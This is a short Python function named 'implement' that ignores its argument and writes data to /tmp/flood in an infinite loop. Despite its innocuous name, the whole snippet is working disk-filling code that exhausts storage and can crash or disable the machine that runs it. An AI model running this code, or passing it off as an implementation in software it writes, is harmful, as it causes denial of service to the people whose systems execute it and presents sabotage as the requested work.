def implement(value):
    with open("/tmp/flood", "wb") as flood:
        while True:
            flood.write(b"x" * 65536)
